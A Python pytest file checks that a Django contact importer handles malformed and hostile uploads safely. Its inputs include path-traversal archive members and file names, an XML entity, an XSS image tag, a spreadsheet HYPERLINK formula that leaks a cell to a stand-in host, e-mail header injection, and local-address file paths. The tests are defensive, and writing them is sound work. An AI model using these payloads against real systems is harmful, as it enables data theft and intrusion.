"""The faults of files that reliability.md lists under A, each through the real importer.

That a file is read right, whatever its dialect, is tested row by row in common/sheets; here
stands what becomes of the contacts, on both databases, and that the numbers add up.
"""

import io
import random
import zipfile
from datetime import timedelta
from threading import Thread

import pytest
from django.core.files.storage import default_storage
from django.db import connection
from django.urls import reverse

from contacts import services
from contacts.models import AttributeValue, Contact, ContactImport
from contacts.services.importing import starting
from contacts.services.importing.applying import carry_out
from contacts.services.importing.files import path_of
from contacts.services.importing.options import Options
from contacts.services.importing.undoing import undo
from contacts.services.refusals import Refused
from segments_app.common.sheets import Unreadable
from tests.factories import make_attribute, make_person

from .bringing import NOON, counts, make_series, row

pytestmark = pytest.mark.django_db
HEADER = "First name;Surname;E-mail\n"
ANNA = "Anna;Öberg;anna@example.org\n"


@pytest.fixture(autouse=True)
def kept_here(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    make_series()


def upload(content, name="people.csv"):
    content = content.encode() if isinstance(content, str) else content
    return starting.start(io.BytesIO(content), name=name, by=None, now=NOON)


def bring(content, mapping=None, name="people.csv", **options):
    """Upload and import a file as the pages do; the columns as guessed, unless said."""
    imported = upload(content, name)
    chosen = mapping.split() if mapping else imported.mapping
    guessed = Options.of(imported.options).as_dict()
    imported = starting.settle(imported, mapping=chosen, options=Options.of(guessed | options))
    done = carry_out(imported, path_of(imported), by=None, now=NOON)
    assert sum(counts(done).values()) == done.read_count
    return done


def people():
    return {one.email: one.name for one in Contact.objects.all()}


@pytest.mark.lesson(82, 85)
@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbf" + f'"E-mail";"Surname"\n{"anna@example.org"};Öberg\n'.encode(),
        "\ufeffE-mail\tSurname\nanna@example.org\tÖberg\n".encode("utf-16-le"),
        "\ufeffE-mail\tSurname\nanna@example.org\tÖberg\n".encode("utf-16-be"),
        "E-mail;Surname\nanna@example.org;Öberg\n".encode("cp1252"),
    ],
)
def test_fa01_fa02_fa03_marks_and_encodings_are_understood(content):
    assert counts(bring(content)) == {"created": 1}
    assert people() == {"anna@example.org": "Öberg"}


@pytest.mark.lesson(83, 85)
def test_fa04_one_byte_of_another_encoding_costs_its_row_which_is_named():
    good = "".join(f"A;Öberg;a{number}@example.org\n" for number in range(600)).encode()
    imported = bring(HEADER.encode() + good + "B;Öz;b@example.org\n".encode("cp1252"))

    assert counts(imported) == {"created": 600, "rejected": 1}
    assert "byte" in row(imported, 602).reason


def test_fa06_half_a_character_is_never_kept(client_for):
    client = client_for("marketer")
    page = reverse("contacts:contact_new") + "?type=person"

    answer = client.post(page, b"surname=%ED%A0%80Berg", "application/x-www-form-urlencoded")

    assert answer.status_code < 500
    assert not Contact.objects.filter(name__contains="\ud800".encode("utf-8", "replace").decode())


@pytest.mark.lesson(82)
def test_fa07_fa08_newlines_of_all_kinds_and_blank_lines_keep_the_numbers_of_rows():
    text = 'E-mail;Surname\r\na@x.example;"Two\rlines"\n\n\rb@x.example;Ek\nbad;Ek\n\nc@x.example;Ö'

    imported = bring(text, "email surname")

    assert counts(imported)["rejected"] == 1
    assert counts(imported)["created"] == 3
    number = imported.rows.get(outcome="rejected").number
    assert text.replace("\r\n", "\n").replace("\r", "\n").split("\n")[number - 1] == "bad;Ek"


def test_fa09_a_quote_that_is_never_closed_costs_its_row_and_swallows_nothing():
    rows = [f"A;Berg;a{number}@x.example\n" for number in range(50)]
    rows[1] = 'A;"Berg;lost@x.example\n'

    imported = bring(HEADER + "".join(rows))

    assert counts(imported) == {"created": 49, "rejected": 1}
    assert row(imported, 3).reason


def test_fa11_rows_with_too_few_or_too_many_cells_are_never_shifted():
    imported = bring(HEADER + ANNA + "Bo;bo@example.org\nCy;Ek;cy@example.org;more\n")

    assert counts(imported) == {"created": 1, "rejected": 2}
    assert "3" in row(imported, 3).reason
    assert "4" in row(imported, 4).reason
    assert list(people()) == ["anna@example.org"]


@pytest.mark.parametrize("sign", [";", "\t", "|", ", "])
def test_fa12_any_delimiter_is_found(sign):
    assert counts(bring((HEADER + ANNA).replace(";", sign))) == {"created": 1}
    assert people() == {"anna@example.org": "Anna Öberg"}


def test_fa12_a_list_of_addresses_alone_is_a_file():
    imported = bring("E-mail\nanna@example.org\nbo@example.org\n")

    assert counts(imported) == {"created": 2}


def test_fa13_two_columns_of_one_name_are_asked_about():
    imported = upload("email;email\na@x.example;b@x.example\n")

    assert imported.header == ["email", "email"]
    with pytest.raises(Refused, match="Two columns fill"):
        starting.settle(imported, mapping=["email", "email"], options=Options())


def test_fa14_names_of_columns_are_known_whatever_their_case_and_blanks():
    assert upload("\u00a0e-MAIL \u200b;SUR name\na@x.example;Berg\n").mapping == [
        "email", "surname",
    ]  # fmt: skip


def test_fa15_what_stands_before_the_header_is_passed_over_and_no_header_loses_no_row():
    noted = bring("Our fair 2026\n\n;;\n" + HEADER + ANNA)
    bare = bring("Bo;Ek;bo@example.org\nCy;Ek;cy@example.org\n", "first_name surname email")

    assert (counts(noted), counts(bare)) == ({"created": 1}, {"created": 2})


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n"])
def test_fa16_a_file_of_nothing_is_refused_in_words(content):
    with pytest.raises(Unreadable, match=r"\w"):
        upload(content)
    assert not ContactImport.objects.exists()
    assert not default_storage.listdir("contact_imports")[1]


def test_fa16_a_header_and_no_row_imports_nobody():
    assert bring(HEADER).read_count == 0


def test_fa17_fa18_what_is_too_long_for_its_field_rejects_its_row():
    long = ["Bo;" + "k" * 131_073 + ";bo@x.example\n", "Cy;" + "k" * 61 + ";cy@x.example\n"]

    imported = bring(HEADER + ANNA + "".join(long))

    assert counts(imported) == {"created": 1, "rejected": 2}
    assert "60" in row(imported, 4).reason


def test_fa19_ten_thousand_columns_are_refused():
    with pytest.raises(Unreadable, match="columns"):
        upload(";".join(f"c{number}" for number in range(10_000)) + "\n")


def packed(*members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        packed(("readme.txt", "x")),
        packed(("../../evil", "x"), ("xl/workbook.xml", "<x/>")),
        packed(("/etc/passwd", "x"), ("xl/workbook.xml", "<x/>")),
        packed(("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
        packed(*((f"xl/{number}.xml", "") for number in range(5_000))),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 40,
        b"PK\x03\x04 broken",
    ],
)
def test_fa21_fa22_archives_that_are_no_spreadsheet_or_do_harm_are_refused(content):
    with pytest.raises(Unreadable, match=r"\w"):
        upload(content, "people.xlsx")
    assert not default_storage.listdir("contact_imports")[1]


def test_fa23_a_file_is_stored_under_a_name_of_ours():
    name = "../../etc/passwd\r\n<img src=x onerror=alert(1)>\u202e" + "x" * 300 + ".csv"
    imported = upload(HEADER + ANNA, name)

    assert imported.kept_as.startswith("contact_imports/")
    assert not set("./\\<>") & set(imported.kept_as.split("/")[1].rpartition(".")[0])
    assert "\n" not in imported.file_name
    assert "/" not in imported.file_name


@pytest.mark.parametrize(
    ("cell", "said", "stored"),
    [
        ("31.02.2026", "dmy", None),
        ("02/03/2026", "dmy", "2026-03-02"),
        ("02/03/2026", "mdy", "2026-02-03"),
        ("1/1/68", "dmy", None),
        ("2024-W01-1", "ymd", "2024-01-01"),
        ("0000-00-00", "ymd", None),
        ("1/1/10000", "dmy", None),
    ],
)
def test_fa24_days_are_read_as_was_said_and_never_jump_a_century(cell, said, stored):
    make_attribute("since", kind="date")
    found = taken("since", cell, date_format=said)

    assert (found.isoformat() if found else None) == stored


@pytest.mark.parametrize(
    ("cell", "sign", "stored"),
    [
        ("1.234,56", ",", "1234.56"),
        ("1,234.56", ".", "1234.56"),
        ("1e999", ".", None),
        ("NaN", ".", None),
        ("1_000", ".", None),
        ("9" * 5_000, ".", None),
    ],
)
def test_fa25_numbers_are_read_as_was_said_or_not_at_all(cell, sign, stored):
    make_attribute("size", kind="number")
    found = taken("size", cell, decimal_sign=sign)

    assert (str(found).rstrip("0") if found is not None else None) == stored


def taken(code, cell, **options):
    """Import a row with this cell for an attribute; return the value, None where it is rejected."""
    mapping = f"email attribute:{code}"
    imported = bring(f"E-mail;x\na@x.example;{cell}\n", mapping, **options)
    if counts(imported) == {"rejected": 1}:
        assert row(imported, 2).reason
        return None
    value = AttributeValue.objects.get(attribute__code=code)
    return value.day if value.attribute.kind == "date" else value.number


def test_fa26_texts_that_a_spreadsheet_would_compute_come_in_as_they_are():
    formula = '"=HYPERLINK(""http://x/?""&A1)"'
    bring(f"E-mail;Surname;Phone;Country\na@x.example;{formula};+49 30 123456;DE\n")

    anna = Contact.objects.get()
    assert anna.name == '=HYPERLINK("http://x/?"&A1)'
    assert anna.phone == "+4930123456"


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        (" A@X.EXAMPLE ", "A@x.example"),
        ("a@B\u00fccher.Example", "a@b\u00fccher.example"),
        ("a@x.example, b@x.example", None),
        ('"a@x.example\nBcc:v@x.example"', None),
        ("a" * 300 + "@x.example", None),
        ("a@localhost", None),
        ("=cmd@x..org", None),
    ],
)
def test_fa27_an_e_mail_is_one_address_or_rejects_its_row(cell, stored):
    imported = bring(f"E-mail;Surname\n{cell};Berg\n")

    assert counts(imported) == ({"created": 1} if stored else {"rejected": 1})
    assert [one.email for one in Contact.objects.all()] == ([stored] if stored else [])


def test_fa29_one_person_in_three_spellings_is_one_contact_and_the_first_row_counts():
    text = HEADER + "Anna;Öberg;a@x.example\nAnna;O\u0308berg;A@X.EXAMPLE\nAnn;Öberg;a@X.example\n"
    imported = bring(text)

    assert counts(imported) == {"created": 1, "skipped": 2}
    assert people() == {"a@x.example": "Anna Öberg"}


def test_fa33_stopped_given_up_and_sent_again_nothing_comes_twice(client_for):
    content = HEADER + ANNA
    first = upload(content)
    starting.give_up(first)
    assert not default_storage.listdir("contact_imports")[1]

    done = bring(content)
    with pytest.raises(Refused, match="already"):
        starting.settle(done, mapping=done.mapping, options=Options())
    assert counts(carry_out(done, "", by=None, now=NOON)) == {"created": 1}
    assert counts(bring(content)) == {"unchanged": 1}
    assert Contact.objects.count() == 1


def test_fa36_no_address_and_no_path_is_taken_for_a_file(client_for):
    client = client_for("marketer")
    page = reverse("segments:contact_import_new")
    for name in ("file_name", "importFile", "upload", "path", "url"):
        for value in ("/etc/passwd", "http://127.0.0.1/x.csv"):
            assert client.post(page, {name: value}).status_code == 422
    assert not ContactImport.objects.exists()


def test_fa37_undoing_touches_only_what_nobody_has_touched_since():
    anna = make_person("Anna", email="a@x.example", city="Kiel")
    imported = bring("E-mail;City\na@x.example;Bonn\nb@x.example;Bonn\nc@x.example;Bonn\n")
    bert = Contact.objects.get(email="b@x.example")
    services.update_contact(bert, values={"city": "Ulm"}, by=None, now=NOON + timedelta(hours=1))

    undo(imported, by=None, now=NOON)

    anna.refresh_from_db()
    assert anna.city == "Kiel"
    assert dict(Contact.objects.exclude(pk=anna.pk).values_list("email", "city")) == {
        "b@x.example": "Ulm"
    }


def test_fa11_broken_files_are_accounted_for_or_refused():
    """Bytes of a good file changed at random: each import adds up, or says why it is none."""
    rng, refused = random.Random(7), 0
    good = (HEADER + ANNA * 5).encode()
    for _each in range(25):
        broken = bytearray(good)
        for _byte in range(rng.randint(1, 6)):
            broken[rng.randrange(len(broken))] = rng.choice(b"\x00\r\n\";,\x80\xff '")
        try:
            bring(bytes(broken), "first_name surname email")
        except (Unreadable, Refused):
            refused += 1
    assert refused < 25


@pytest.mark.django_db(transaction=True)
def test_fa34_two_who_import_overlapping_files_at_once_make_nobody_twice():
    make_series()
    texts = [
        HEADER + "".join(f"A;Berg;a{number}@x.example\n" for number in numbers)
        for numbers in (range(30), reversed(range(15, 45)))
    ]
    drafts = []
    for text in texts:
        draft = upload(text)
        options = Options.of(draft.options)
        drafts.append(starting.settle(draft, mapping=draft.mapping, options=options))
    errors = []

    def run(draft):
        try:
            carry_out(draft, path_of(draft), by=None, now=NOON)
        except BaseException as error:
            errors.append(error)
        finally:
            connection.close()

    threads = [Thread(target=run, args=[draft]) for draft in drafts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert errors == []
    assert Contact.objects.count() == 45
    found = [counts(draft) for draft in drafts]
    assert sorted(one.get("created", 0) for one in found) == [15, 30]
    assert all(sum(one.values()) == 30 for one in found)
